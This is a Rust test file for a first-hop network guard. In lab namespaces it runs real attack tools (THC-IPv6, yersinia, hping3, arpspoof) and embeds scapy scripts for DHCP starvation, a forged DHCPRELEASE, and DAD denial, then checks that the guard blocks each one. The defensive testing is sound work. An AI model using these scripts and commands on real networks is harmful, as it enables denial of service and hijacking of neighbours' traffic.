//! First-hop attacks driven by real attack tools (docs/policy.md "DHCP",
//! "Fragments", section 6.8): THC-IPv6 (`atk6-*`), yersinia, hping3,
//! dsniff and scapy (/usr/bin/python3), against real victims (ISC dhclient, dnsmasq,
//! the kernel's DAD and RA handling) in network namespaces behind a bridge.
//!
//! Every attack is first run against an unprotected port (nothing attached)
//! and shown to work, judged by what the victim observes (its lease and DNS
//! server, dnsmasq's lease file and log, `ip -6 addr` DAD state, routes, IP
//! reassembly counters, frames arriving at its interface); then the port is
//! guarded and the same attack is shown to fail, with the drops counted
//! under the expected reason. Every tool runs under `timeout`; traffic stays
//! in the lab's namespaces.
//!
//! Where a tool does not fit, scapy does the job and the test says so:
//! `atk6-dos-new-ip6` spoofs random source MACs (so portguard stops it as
//! `mac_spoof`, with or without the DAD-target rule): the own-MAC variant is
//! scapy; yersinia's DHCP attack sends DISCOVERs only, which dnsmasq never
//! records as leases: the pool exhaustion is scapy; the RELEASE naming a
//! neighbour's client identifier is scapy (yersinia sets no option 61).
//!
//! dsniff's arpspoof is a regression case (ARP poisoning was stopped before).
//!
//! Needs root, thc-ipv6, yersinia, hping3, dsniff, dnsmasq, dhclient, nft and
//! python3-scapy (`cargo xtask setup`). About 60 s with two test threads.
use std::{
    fs,
    net::Ipv4Addr,
    os::unix::fs::PermissionsExt,
    path::Path,
    process::{Command, Output, Stdio},
    thread,
    time::Duration,
};

use portguard_tests::{
    frames::{self as f, Mac},
    netns::{Lab, Vm, VmSpec},
    proc::{dnsmasq_dhcp, eventually, need_tool, Proc, TmpDir},
};
use serde_json::Value;

const PYTHON: &str = "/usr/bin/python3";

// ------------------------------------------------------------------ lab and CLI

/// VM `i` with IPv6 enabled (no global address) and the given IPv4 addresses.
fn spec(i: u8, v4: &[(&str, u8)]) -> VmSpec {
    let mut s = VmSpec::numbered(i).with_ipv6();
    s.v6.clear();
    s.v4 = v4.iter().map(|(a, l)| (f::v4(a), *l)).collect();
    s
}

/// Binds `vm`'s port to its MAC and `ips`, then attaches.
fn guard(lab: &Lab, vm: &Vm, ips: &[&str]) {
    let m = f::mac_str(&vm.mac());
    let mut args = vec!["bind", vm.host_if.as_str(), "--mac", &m];
    for ip in ips {
        args.push("--ip");
        args.push(ip);
    }
    lab.pg_ok(&args);
    lab.pg_ok(&["attach", &vm.host_if]);
}

fn must_ok(o: &Output, what: &str) {
    assert!(
        o.status.success(),
        "{what}: {}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
}

fn ip(ns: &str, args: &[&str]) -> String {
    let o = Command::new("ip")
        .arg("-n")
        .arg(ns)
        .args(args)
        .output()
        .expect("run ip");
    must_ok(&o, &format!("ip -n {ns} {args:?}"));
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn sysctl(vm: &Vm, kv: &str) {
    must_ok(&vm.run(&["sysctl", "-qw", kv]), kv);
}

/// Runs a tool in `vm` for at most `secs` (SIGINT, then KILL 2 s later),
/// with an open but silent stdin (yersinia stops at the first key press).
fn tool(vm: &Vm, secs: u32, argv: &[&str]) -> Output {
    let mut child = Command::new("nsenter")
        .arg(format!("--net=/run/netns/{}", vm.ns))
        .args(["timeout", "-s", "INT", "-k", "2", &secs.to_string()])
        .args(argv)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("{argv:?}: {e}"));
    // Held open (and silent) until the tool has exited.
    let _stdin = child.stdin.take();
    child
        .wait_with_output()
        .unwrap_or_else(|e| panic!("{argv:?}: {e}"))
}

/// Writes a scapy script to the scratch dir and runs it in `vm` (bounded).
fn scapy(vm: &Vm, tmp: &TmpDir, name: &str, script: &str, args: &[&str], secs: u32) -> Output {
    let path = tmp.path(name);
    fs::write(&path, script).unwrap();
    let p = path.display().to_string();
    let mut argv = vec![PYTHON, p.as_str()];
    argv.extend_from_slice(args);
    let o = tool(vm, secs, &argv);
    must_ok(&o, &format!("scapy {name}"));
    o
}

fn need_tools(tools: &[&str]) {
    for t in tools {
        need_tool(t);
    }
    assert!(
        Path::new(PYTHON).exists()
            && Command::new(PYTHON)
                .args(["-c", "import scapy.all"])
                .output()
                .is_ok_and(|o| o.status.success()),
        "scapy is missing (apt-get install python3-scapy)"
    );
}

// ------------------------------------------------------------------ DHCP programs

/// dnsmasq as a DHCP server only, offering at once (no ping check).
fn dnsmasq(ns: &str, tmp: &TmpDir, tag: &str, iface: &str, extra: &[&str]) -> Proc {
    let mut args = vec!["--no-ping"];
    args.extend_from_slice(extra);
    dnsmasq_dhcp(ns, tmp, tag, iface, &args)
}

/// A real ISC dhclient (`-6` for DHCPv6) on the VM's eth0, in the
/// foreground; its hook script logs what it was given and configures nothing.
fn dhclient(vm: &Vm, tmp: &TmpDir, tag: &str, v6: bool, conf: &str, secs: u32) -> Proc {
    let script = tmp.path(&format!("{tag}-script"));
    fs::write(
        &script,
        format!(
            "#!/bin/sh\necho \"$reason ip4=$new_ip_address dns4=$new_domain_name_servers \
             ip6=$new_ip6_address dns6=$new_dhcp6_name_servers\" >> {}\nexit 0\n",
            tmp.s(&format!("{tag}.events"))
        ),
    )
    .unwrap();
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(tmp.path(&format!("{tag}.conf")), conf).unwrap();
    let secs = secs.to_string();
    let (cf, lf, pf, sf) = (
        tmp.s(&format!("{tag}.conf")),
        tmp.s(&format!("{tag}.lease")),
        tmp.s(&format!("{tag}.pid")),
        script.display().to_string(),
    );
    let mut argv = vec!["timeout", secs.as_str(), "dhclient"];
    if v6 {
        argv.push("-6");
    }
    argv.extend_from_slice(&[
        "-d", "-1", "-v", "-cf", &cf, "-lf", &lf, "-pf", &pf, "-sf", &sf, "eth0",
    ]);
    Proc::spawn(&vm.ns, &argv, &tmp.path(&format!("{tag}.log")))
}

/// The hook script's log: one line per event (`BOUND ip4=...`).
fn events(tmp: &TmpDir, tag: &str) -> String {
    fs::read_to_string(tmp.path(&format!("{tag}.events"))).unwrap_or_default()
}

fn bound(tmp: &TmpDir, tag: &str) -> Option<String> {
    events(tmp, tag)
        .lines()
        .find(|l| l.starts_with("BOUND"))
        .map(str::to_string)
}

fn leases(tmp: &TmpDir, tag: &str) -> String {
    fs::read_to_string(tmp.path(&format!("{tag}.leases"))).unwrap_or_default()
}

/// The host namespace serves DHCP on the lab bridge as 192.0.2.254.
fn bridge_server(lab: &Lab) {
    ip(
        &lab.host,
        &["addr", "add", "192.0.2.254/24", "dev", &lab.bridge],
    );
}

fn dropped(lab: &Lab, vm: &Vm, reason: &str) -> u64 {
    lab.counters(vm).dropped(reason)
}

// ------------------------------------------------------------------ DHCPv6

/// THC's fake_dhcps6 answers Solicits from a random source port. Unprotected,
/// the victim's dhclient -6 takes the attacker's address and DNS server;
/// guarded, the Advertise never arrives (`dhcp_server`), whatever its port.
#[test]
fn thc_fake_dhcps6_rogue_server_on_a_random_port() {
    need_tools(&["atk6-fake_dhcps6", "dhclient"]);
    let lab = Lab::with_vms(vec![spec(1, &[]), spec(2, &[])]);
    let (victim, attacker) = (lab.vm(1), lab.vm(2));
    let tmp = TmpDir::new(&lab, "dhcps6");
    let fake = [
        "atk6-fake_dhcps6",
        "eth0",
        "2001:db8:bad::/64",
        "2001:db8:bad::53",
    ];
    let run = |tag: &str, secs: u32| -> Option<String> {
        let mut rogue = Proc::spawn(
            &attacker.ns,
            &[&["timeout", &(secs + 2).to_string()][..], &fake[..]].concat(),
            &tmp.path(&format!("{tag}-fake.log")),
        );
        let _client = dhclient(victim, &tmp, tag, true, "timeout 30;\n", secs);
        eventually(secs as u64, || bound(&tmp, tag).is_some());
        let _ = rogue.exited();
        bound(&tmp, tag)
    };

    let got = run("open", 15)
        .expect("control: the victim got no lease from fake_dhcps6 on an unprotected port");
    assert!(
        got.contains("ip6=2001:db8:bad:") && got.contains("dns6=2001:db8:bad::53"),
        "control: unexpected lease {got}"
    );

    guard(&lab, victim, &[]);
    guard(&lab, attacker, &[]);
    let got = run("guarded", 8);
    assert_eq!(got, None, "the rogue DHCPv6 server configured the victim");
    assert!(
        dropped(&lab, attacker, "dhcp_server") > 0,
        "fake_dhcps6's answers were not counted: {:?}",
        lab.counters(attacker)
    );
    assert_eq!(
        lab.counters(victim).total_dropped(),
        0,
        "{:?}",
        lab.counters(victim)
    );
}

// ------------------------------------------------------------------ DHCPv4 server on another port

/// A real dnsmasq whose replies leave from UDP port 6767 (an nftables rule in
/// the attacker's namespace rewrites the source port). ISC dhclient accepts
/// them: unprotected, the victim takes the rogue's address and DNS server.
/// Guarded, nothing of the rogue's reaches the victim (`dhcp_server`), and
/// the victim leases from the real server on the bridge.
#[test]
fn rogue_dhcpv4_server_answering_from_port_6767() {
    need_tools(&["dnsmasq", "dhclient", "nft"]);
    let lab = Lab::with_vms(vec![spec(1, &[]), spec(2, &[("198.51.100.1", 24)])]);
    let (victim, attacker) = (lab.vm(1), lab.vm(2));
    let tmp = TmpDir::new(&lab, "dhcp6767");
    let nft = attacker.run(&[
        "nft",
        "add table inet pgrogue; \
         add chain inet pgrogue out { type filter hook output priority 0; }; \
         add rule inet pgrogue out udp sport 67 udp sport set 6767",
    ]);
    must_ok(&nft, "nft source-port rewrite");
    let mut rogue = dnsmasq(
        &attacker.ns,
        &tmp,
        "rogue",
        "eth0",
        &[
            "--dhcp-range=198.51.100.100,198.51.100.150,255.255.255.0",
            "--dhcp-option=6,198.51.100.53",
        ],
    );
    let conf = "timeout 20;\ninitial-interval 1;\n";

    let client = dhclient(victim, &tmp, "open", false, conf, 15);
    eventually(15, || bound(&tmp, "open").is_some());
    drop(client);
    let got = bound(&tmp, "open").unwrap_or_else(|| {
        panic!(
            "control: no lease from the rogue on an unprotected port\n{}",
            rogue.log()
        )
    });
    assert!(
        got.contains("ip4=198.51.100.") && got.contains("dns4=198.51.100.53"),
        "control: {got}"
    );

    bridge_server(&lab);
    let mut legit = dnsmasq(
        &lab.host,
        &tmp,
        "legit",
        &lab.bridge,
        &["--dhcp-range=192.0.2.100,192.0.2.150,255.255.255.0"],
    );
    guard(&lab, victim, &["192.0.2.96/27", "192.0.2.128/27"]);
    guard(&lab, attacker, &["198.51.100.1"]);
    let cap = victim.capture();
    let client = dhclient(victim, &tmp, "guarded", false, conf, 15);
    eventually(15, || bound(&tmp, "guarded").is_some());
    thread::sleep(Duration::from_millis(500));
    drop(client);
    let from_rogue = cap
        .finish()
        .into_iter()
        .filter(|fr| fr.len() > 42 && fr[6..12] == attacker.mac() && fr[12..14] == [8, 0])
        .count();
    let got = bound(&tmp, "guarded")
        .unwrap_or_else(|| panic!("no lease from the real server\nlegit:\n{}", legit.log()));
    assert!(
        got.contains("ip4=192.0.2.1"),
        "leased from the wrong server: {got}"
    );
    assert!(!got.contains("198.51.100"), "{got}");
    assert_eq!(
        from_rogue, 0,
        "{from_rogue} rogue frames reached the victim"
    );
    assert!(
        rogue.log().contains("DHCPOFFER"),
        "the rogue never answered (setup)"
    );
    assert!(
        dropped(&lab, attacker, "dhcp_server") > 0,
        "{:?}",
        lab.counters(attacker)
    );
    legit.assert_running();
    rogue.assert_running();
}

// ------------------------------------------------------------------ starvation and release

/// scapy: DHCPREQUESTs for `n` consecutive addresses, each under a new
/// random `chaddr`, from the attacker's own MAC (pool exhaustion).
const STARVE: &str = r#"
import sys, random
from scapy.all import Ether, IP, UDP, BOOTP, DHCP, sendp, conf
conf.verb = 0
iface, mac, server, first, n = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5])
a = list(map(int, first.split('.')))
frames = []
for i in range(n):
    ch = bytes([0x02, 0x5a, random.randrange(256), random.randrange(256), random.randrange(256), i])
    addr = '.'.join(map(str, a[:3] + [a[3] + i]))
    frames.append(Ether(src=mac, dst='ff:ff:ff:ff:ff:ff') / IP(src='0.0.0.0', dst='255.255.255.255') /
        UDP(sport=68, dport=67) / BOOTP(op=1, chaddr=ch + bytes(10), xid=random.randrange(1 << 32)) /
        DHCP(options=[('message-type', 'request'), ('server_id', server), ('requested_addr', addr), 'end']))
sendp(frames, iface=iface, inter=0.05)
"#;

/// The lease lines of `leases` whose MAC is not `own`.
fn foreign_leases(leases: &str, own: Mac) -> usize {
    let own = f::mac_str(&own);
    leases
        .lines()
        .filter(|l| l.split_whitespace().nth(1).is_some_and(|m| m != own))
        .count()
}

/// DISCOVER lines in dnsmasq's log from hardware addresses other than `own`.
fn foreign_discovers(log: &str, own: Mac) -> usize {
    let own = f::mac_str(&own);
    log.lines()
        .filter(|l| l.contains("DHCPDISCOVER") && !l.contains(&own))
        .count()
}

/// yersinia's DHCP DoS (`dhcp -attack 1 -M`: DISCOVERs under random
/// `chaddr`s, the attacker's own MAC on the wire) and a scapy pool
/// exhaustion (REQUESTs under random `chaddr`s). Unprotected, dnsmasq sees
/// thousands of foreign clients, hands out its whole pool, and the victim
/// gets no lease. Guarded: dnsmasq sees none of them (`dhcp_spoof`), and the
/// victim leases.
#[test]
fn dhcp_starvation_yersinia_and_scapy() {
    need_tools(&["yersinia", "dnsmasq", "dhclient"]);
    let lab = Lab::with_vms(vec![spec(1, &[]), spec(2, &[("192.0.2.2", 24)])]);
    let (victim, attacker) = (lab.vm(1), lab.vm(2));
    let tmp = TmpDir::new(&lab, "starve");
    bridge_server(&lab);
    let pool = ["--dhcp-range=192.0.2.100,192.0.2.104,255.255.255.0,10m"];
    let conf = "timeout 6;\ninitial-interval 1;\n";
    let am = f::mac_str(&attacker.mac());
    // yersinia writes its log to the working directory unless told otherwise.
    let ylog = tmp.s("yersinia.log");
    let attack = |server: &mut Proc| {
        tool(
            attacker,
            2,
            &[
                "yersinia",
                "-l",
                &ylog,
                "dhcp",
                "-attack",
                "1",
                "-M",
                "-interface",
                "eth0",
            ],
        );
        scapy(
            attacker,
            &tmp,
            "starve.py",
            STARVE,
            &["eth0", &am, "192.0.2.254", "192.0.2.100", "5"],
            20,
        );
        thread::sleep(Duration::from_millis(500));
        server.assert_running();
    };

    let mut server = dnsmasq(&lab.host, &tmp, "open", &lab.bridge, &pool);
    attack(&mut server);
    let log = server.log();
    assert!(
        foreign_discovers(&log, attacker.mac()) > 100,
        "control: yersinia's DISCOVERs did not reach dnsmasq ({} lines)",
        log.lines().count()
    );
    assert_eq!(
        foreign_leases(&leases(&tmp, "open"), attacker.mac()),
        5,
        "control: the pool was not exhausted:\n{}",
        leases(&tmp, "open")
    );
    let c = dhclient(victim, &tmp, "starved", false, conf, 8);
    eventually(8, || server.log().contains("no address available"));
    drop(c);
    assert_eq!(
        bound(&tmp, "starved"),
        None,
        "control: the victim leased from an exhausted pool"
    );
    drop(server);

    guard(&lab, attacker, &["192.0.2.2"]);
    guard(&lab, victim, &["192.0.2.96/27"]);
    let mut server = dnsmasq(&lab.host, &tmp, "guarded", &lab.bridge, &pool);
    attack(&mut server);
    assert_eq!(
        foreign_discovers(&server.log(), attacker.mac()),
        0,
        "foreign DISCOVERs reached dnsmasq"
    );
    assert_eq!(
        foreign_leases(&leases(&tmp, "guarded"), attacker.mac()),
        0,
        "{}",
        leases(&tmp, "guarded")
    );
    let spoof = dropped(&lab, attacker, "dhcp_spoof");
    assert!(
        spoof > 100,
        "yersinia + scapy frames not counted as dhcp_spoof: {:?}",
        lab.counters(attacker)
    );
    let _c = dhclient(victim, &tmp, "served", false, conf, 10);
    assert!(
        eventually(10, || bound(&tmp, "served").is_some()),
        "the victim got no lease:\n{}",
        server.log()
    );
}

/// scapy: a DHCPRELEASE with the attacker's own `chaddr` but the victim's
/// client identifier (type 1 + victim MAC) and address.
const RELEASE: &str = r#"
import sys
from scapy.all import Ether, IP, UDP, BOOTP, DHCP, sendp, conf
conf.verb = 0
iface, mac, src, server, server_mac, victim_ip, victim_mac = sys.argv[1:8]
cid = b'\x01' + bytes.fromhex(victim_mac.replace(':', ''))
p = (Ether(src=mac, dst=server_mac) / IP(src=src, dst=server) / UDP(sport=68, dport=67) /
     BOOTP(op=1, ciaddr=victim_ip, chaddr=bytes.fromhex(mac.replace(':', '')) + bytes(10), xid=0x1234) /
     DHCP(options=[('message-type', 'release'), ('server_id', server), ('client_id', cid), 'end']))
sendp(p, iface=iface)
"#;

/// dnsmasq keys a lease by the client identifier when the client sends one.
/// Unprotected, a RELEASE with the attacker's own `chaddr` and the victim's
/// identifier deletes the victim's lease from dnsmasq's lease file; guarded,
/// it is `dhcp_spoof` and the lease stays.
#[test]
fn release_naming_a_neighbours_client_identifier() {
    need_tools(&["dnsmasq", "dhclient"]);
    let lab = Lab::with_vms(vec![spec(1, &[]), spec(2, &[("192.0.2.2", 24)])]);
    let (victim, attacker) = (lab.vm(1), lab.vm(2));
    let tmp = TmpDir::new(&lab, "release");
    bridge_server(&lab);
    let server = dnsmasq(
        &lab.host,
        &tmp,
        "srv",
        &lab.bridge,
        &["--dhcp-range=192.0.2.100,192.0.2.150,255.255.255.0,10m"],
    );
    let br_mac = ip(&lab.host, &["-j", "link", "show", "dev", &lab.bridge]);
    let br_mac: Value = serde_json::from_str(&br_mac).unwrap();
    let br_mac = br_mac[0]["address"].as_str().unwrap().to_string();
    let conf = "timeout 10;\ninitial-interval 1;\nsend dhcp-client-identifier = hardware;\n";
    let vmac = f::mac_str(&victim.mac());
    let am = f::mac_str(&attacker.mac());
    let lease_of_victim = |tag: &str| -> Ipv4Addr {
        let _c = dhclient(victim, &tmp, tag, false, conf, 12);
        assert!(
            eventually(12, || bound(&tmp, tag).is_some()),
            "no lease:\n{}",
            server.log()
        );
        let l = leases(&tmp, "srv");
        let line = l
            .lines()
            .find(|x| x.contains(&vmac))
            .unwrap_or_else(|| panic!("victim lease missing:\n{l}"));
        assert!(
            line.contains(&format!("01:{vmac}")),
            "not keyed by client id: {line}"
        );
        line.split_whitespace().nth(2).unwrap().parse().unwrap()
    };
    let release = |addr: Ipv4Addr| {
        scapy(
            attacker,
            &tmp,
            "release.py",
            RELEASE,
            &[
                "eth0",
                &am,
                "192.0.2.2",
                "192.0.2.254",
                &br_mac,
                &addr.to_string(),
                &vmac,
            ],
            15,
        );
    };

    let addr = lease_of_victim("first");
    release(addr);
    assert!(
        eventually(5, || !leases(&tmp, "srv").contains(&vmac)),
        "control: dnsmasq kept the victim's lease after the forged RELEASE:\n{}",
        leases(&tmp, "srv")
    );

    guard(&lab, attacker, &["192.0.2.2"]);
    let addr = lease_of_victim("second");
    release(addr);
    thread::sleep(Duration::from_secs(1));
    assert!(
        leases(&tmp, "srv").contains(&vmac),
        "the forged RELEASE deleted the victim's lease:\n{}",
        server.log()
    );
    assert_eq!(
        dropped(&lab, attacker, "dhcp_spoof"),
        1,
        "{:?}",
        lab.counters(attacker)
    );
}

// ------------------------------------------------------------------ DAD denial

/// scapy: answers every DAD probe it sees (NS from ::) with a DAD probe of
/// its own for the same target, from the attacker's own MAC.
const DAD_DOS: &str = r#"
import sys
from scapy.all import Ether, IPv6, ICMPv6ND_NS, sniff, sendp, conf
conf.verb = 0
iface, mac, secs, ready = sys.argv[1], sys.argv[2], float(sys.argv[3]), sys.argv[4]
def answer(p):
    if ICMPv6ND_NS in p and p[IPv6].src == '::' and p[Ether].src != mac:
        t = p[ICMPv6ND_NS].tgt
        sendp(Ether(src=mac, dst=p[Ether].dst) / IPv6(src='::', dst=p[IPv6].dst, hlim=255) /
              ICMPv6ND_NS(tgt=t), iface=iface)
sniff(iface=iface, filter='icmp6', prn=answer, timeout=secs, store=False,
      started_callback=lambda: open(ready, 'w').close())
"#;

fn dad_state(vm: &Vm, addr: &str) -> Option<String> {
    let out = ip(&vm.ns, &["-6", "-j", "addr", "show", "dev", "eth0"]);
    let v: Value = serde_json::from_str(&out).ok()?;
    let a = v[0]["addr_info"]
        .as_array()?
        .iter()
        .find(|a| a["local"].as_str() == Some(addr))?
        .clone();
    Some(if a["dadfailed"].as_bool() == Some(true) {
        "dadfailed".into()
    } else if a["tentative"].as_bool() == Some(true) {
        "tentative".into()
    } else {
        "ok".into()
    })
}

/// Adds `addr`/64 with DAD on while `attack` runs in the background (once
/// `ready` says it listens); returns the address's final DAD state.
fn dad_under(
    vm: &Vm,
    addr: &str,
    attack: impl FnOnce() -> Output + Send,
    ready: impl Fn() -> bool,
) -> String {
    thread::scope(|s| {
        let h = s.spawn(attack);
        assert!(eventually(15, &ready), "the attacker did not start");
        ip(
            &vm.ns,
            &["-6", "addr", "add", &format!("{addr}/64"), "dev", "eth0"],
        );
        eventually(10, || {
            dad_state(vm, addr).is_some_and(|st| st != "tentative")
        });
        let st = dad_state(vm, addr).unwrap_or_default();
        let _ = h.join();
        st
    })
}

/// A neighbour answering every DAD probe with its own makes the victim's new
/// addresses fail (`dadfailed`). THC's `atk6-dos-new-ip6 -S` does it from
/// random MACs (stopped as `mac_spoof`); the same attack from the attacker's
/// own MAC (scapy) needs the DAD-target rule (`nd_spoof`).
#[test]
fn dad_denial_thc_dos_new_ip6_and_own_mac() {
    need_tools(&["atk6-dos-new-ip6"]);
    let lab = Lab::with_vms(vec![
        spec(1, &[("192.0.2.1", 24)]),
        spec(2, &[("192.0.2.2", 24)]),
    ]);
    let (victim, attacker) = (lab.vm(1), lab.vm(2));
    let tmp = TmpDir::new(&lab, "dad");
    sysctl(victim, "net.ipv6.conf.eth0.accept_dad=1");
    sysctl(victim, "net.ipv6.conf.eth0.dad_transmits=1");
    let am = f::mac_str(&attacker.mac());
    let thc = || tool(attacker, 6, &["atk6-dos-new-ip6", "-S", "eth0"]);
    // atk6-dos-new-ip6 prints nothing when it listens: give it a moment.
    let started = std::time::Instant::now();
    let thc_ready = || started.elapsed() > Duration::from_millis(1500);
    let ready = tmp.path("dad.ready");
    let script = tmp.path("dad.py");
    fs::write(&script, DAD_DOS).unwrap();
    let own = || {
        tool(
            attacker,
            12,
            &[
                PYTHON,
                &script.display().to_string(),
                "eth0",
                &am,
                "8",
                &ready.display().to_string(),
            ],
        )
    };
    let own_ready = || ready.exists();

    assert_eq!(
        dad_under(victim, "2001:db8::71", thc, thc_ready),
        "dadfailed",
        "control: atk6-dos-new-ip6"
    );
    let _ = fs::remove_file(&ready);
    assert_eq!(
        dad_under(victim, "2001:db8::72", own, own_ready),
        "dadfailed",
        "control: own-MAC DAD answers"
    );

    guard(&lab, victim, &["192.0.2.1", "2001:db8::/64"]);
    guard(&lab, attacker, &["192.0.2.2", "2001:db8::2"]);
    let started = std::time::Instant::now();
    let thc_ready = || started.elapsed() > Duration::from_millis(1500);
    assert_eq!(
        dad_under(victim, "2001:db8::73", thc, thc_ready),
        "ok",
        "atk6-dos-new-ip6 defeated DAD"
    );
    assert!(
        dropped(&lab, attacker, "mac_spoof") > 0,
        "{:?}",
        lab.counters(attacker)
    );
    let _ = fs::remove_file(&ready);
    assert_eq!(
        dad_under(victim, "2001:db8::74", own, own_ready),
        "ok",
        "own-MAC DAD answers defeated DAD"
    );
    assert!(
        dropped(&lab, attacker, "nd_spoof") > 0,
        "{:?}",
        lab.counters(attacker)
    );
    assert_eq!(
        lab.counters(victim).total_dropped(),
        0,
        "{:?}",
        lab.counters(victim)
    );
}

// ------------------------------------------------------------------ fragmented RA

/// THC's fake_router26 RA-Guard evasions. `-E 1` (an atomic fragment): the
/// victim (accepting RAs, suppress_frag_ndisc=0 as a non-RFC 6980 stack
/// would) learns the attacker as default router when unprotected. `-E O`
/// (overlapping fragments for keep-first stacks) and `-E D` (the RA behind a
/// large Destination Options header, split over fragments): Linux discards
/// them itself (RFC 5722, RFC 7112), so what an unprotected victim receives is
/// shown by capture. Guarded, nothing of them arrives.
#[test]
fn thc_fake_router26_fragment_evasions() {
    need_tools(&["atk6-fake_router26"]);
    let lab = Lab::with_vms(vec![
        spec(1, &[("192.0.2.1", 24)]),
        spec(2, &[("192.0.2.2", 24)]),
    ]);
    let (victim, attacker) = (lab.vm(1), lab.vm(2));
    for kv in [
        "net.ipv6.conf.eth0.forwarding=0",
        "net.ipv6.conf.eth0.accept_ra=2",
        "net.ipv6.conf.eth0.accept_ra_defrtr=1",
        "net.ipv6.conf.eth0.suppress_frag_ndisc=0",
    ] {
        sysctl(victim, kv);
    }
    let ra = |e: &str| {
        let cap = victim.capture();
        tool(
            attacker,
            5,
            &[
                "atk6-fake_router26",
                "-E",
                e,
                "-A",
                "2001:db8:bad::/64",
                "-n",
                "1",
                "eth0",
            ],
        );
        cap.finish_after(Duration::from_millis(500))
            .into_iter()
            .filter(|fr| {
                fr.len() > 54
                    && fr[6..12] == attacker.mac()
                    && fr[12..14] == [0x86, 0xdd]
                    && (fr[20] == 44 || (fr[20] == 58 && fr[54] == 134))
            })
            .count()
    };
    let has_default = || ip(&victim.ns, &["-6", "route", "show", "default"]).contains("default");

    assert!(
        ra("O") >= 2,
        "control: -E O fragments did not reach the victim"
    );
    assert!(
        ra("D") >= 2,
        "control: -E D fragments did not reach the victim"
    );
    assert!(!has_default(), "the victim had a default route before -E 1");
    assert!(ra("1") >= 1, "control: -E 1 did not reach the victim");
    assert!(
        eventually(5, has_default),
        "control: -E 1 did not install a default route"
    );
    ip(
        &victim.ns,
        &["-6", "route", "flush", "dev", "eth0", "proto", "ra"],
    );

    guard(&lab, attacker, &["192.0.2.2"]);
    let before = lab.counters(attacker);
    assert_eq!(ra("O"), 0, "-E O fragments reached the victim");
    assert_eq!(ra("D"), 0, "-E D fragments reached the victim");
    assert_eq!(ra("1"), 0, "-E 1 reached the victim");
    thread::sleep(Duration::from_millis(500));
    assert!(!has_default(), "the victim learned a default route");
    let after = lab.counters(attacker);
    let d = |r: &str| after.dropped(r) - before.dropped(r);
    assert!(
        d("malformed") >= 4 && d("ra_guard") >= 1,
        "{before:?} -> {after:?}"
    );
}

// ------------------------------------------------------------------ tiny fragments

/// Reassembled IPv4 datagrams (`Ip: ReasmOKs`) of the VM's namespace.
fn reasm_oks(vm: &Vm) -> u64 {
    let o = vm.run(&["cat", "/proc/net/snmp"]);
    let s = String::from_utf8_lossy(&o.stdout);
    let mut ip = s.lines().filter(|l| l.starts_with("Ip:"));
    let (names, values) = (ip.next().unwrap_or(""), ip.next().unwrap_or(""));
    names
        .split_whitespace()
        .zip(values.split_whitespace())
        .find(|(n, _)| *n == "ReasmOKs")
        .and_then(|(_, v)| v.parse().ok())
        .unwrap_or(0)
}

/// hping3 -f splits a TCP SYN into 16-byte fragments: the first carries only
/// part of the TCP header (RFC 1858 tiny fragment), the second starts inside
/// it. Unprotected, the victim reassembles them; guarded, they are
/// `malformed` and nothing is reassembled.
#[test]
fn hping3_tiny_tcp_fragments() {
    need_tools(&["hping3"]);
    let lab = Lab::new(2);
    let (victim, attacker) = (lab.vm(1), lab.vm(2));
    let syns = || {
        let before = reasm_oks(victim);
        tool(
            attacker,
            6,
            &[
                "hping3",
                "-S",
                "-p",
                "80",
                "-f",
                "-c",
                "3",
                "-i",
                "u200000",
                "192.0.2.1",
            ],
        );
        thread::sleep(Duration::from_millis(300));
        reasm_oks(victim) - before
    };
    assert_eq!(
        syns(),
        3,
        "control: the victim did not reassemble hping3's fragments"
    );
    guard(&lab, attacker, &["192.0.2.2"]);
    guard(&lab, victim, &["192.0.2.1"]);
    assert_eq!(
        syns(),
        0,
        "tiny fragments were reassembled behind a guarded port"
    );
    assert!(
        dropped(&lab, attacker, "malformed") >= 6,
        "{:?}",
        lab.counters(attacker)
    );
}

// ------------------------------------------------------------------ ARP (dsniff)

/// The MAC the VM's neighbour table holds for `addr`.
fn neigh4(vm: &Vm, addr: &str) -> Option<String> {
    let out = ip(&vm.ns, &["-j", "neigh", "show", addr, "dev", "eth0"]);
    let v: Value = serde_json::from_str(&out).ok()?;
    v.get(0)?.get("lladdr")?.as_str().map(str::to_string)
}

/// dsniff's arpspoof (regression: ARP poisoning was stopped before this
/// work): unprotected, the victim's entry for vm3 is rewritten to the
/// attacker's MAC; guarded, it keeps vm3's (`arp_spoof`).
#[test]
fn dsniff_arpspoof() {
    need_tools(&["arpspoof"]);
    let lab = Lab::new(3);
    let (victim, attacker, other) = (lab.vm(1), lab.vm(2), lab.vm(3));
    let real = f::mac_str(&other.mac());
    let am = f::mac_str(&attacker.mac());
    // Looked at while arpspoof runs: on exit it re-announces the real MAC.
    let poisoned = || {
        must_ok(
            &victim.run(&["ping", "-c", "1", "-W", "2", "192.0.2.3"]),
            "ping vm3",
        );
        assert_eq!(neigh4(victim, "192.0.2.3").as_deref(), Some(real.as_str()));
        thread::scope(|s| {
            let h = s.spawn(|| {
                tool(
                    attacker,
                    5,
                    &["arpspoof", "-i", "eth0", "-t", "192.0.2.1", "192.0.2.3"],
                )
            });
            let hit = eventually(4, || {
                neigh4(victim, "192.0.2.3").as_deref() == Some(am.as_str())
            });
            let _ = h.join();
            hit
        })
    };
    assert!(poisoned(), "control: arpspoof did not poison the victim");
    victim.run(&["ip", "neigh", "flush", "dev", "eth0"]);
    guard(&lab, attacker, &["192.0.2.2"]);
    assert!(!poisoned(), "arpspoof poisoned the victim");
    assert!(
        dropped(&lab, attacker, "arp_spoof") > 0,
        "{:?}",
        lab.counters(attacker)
    );
}
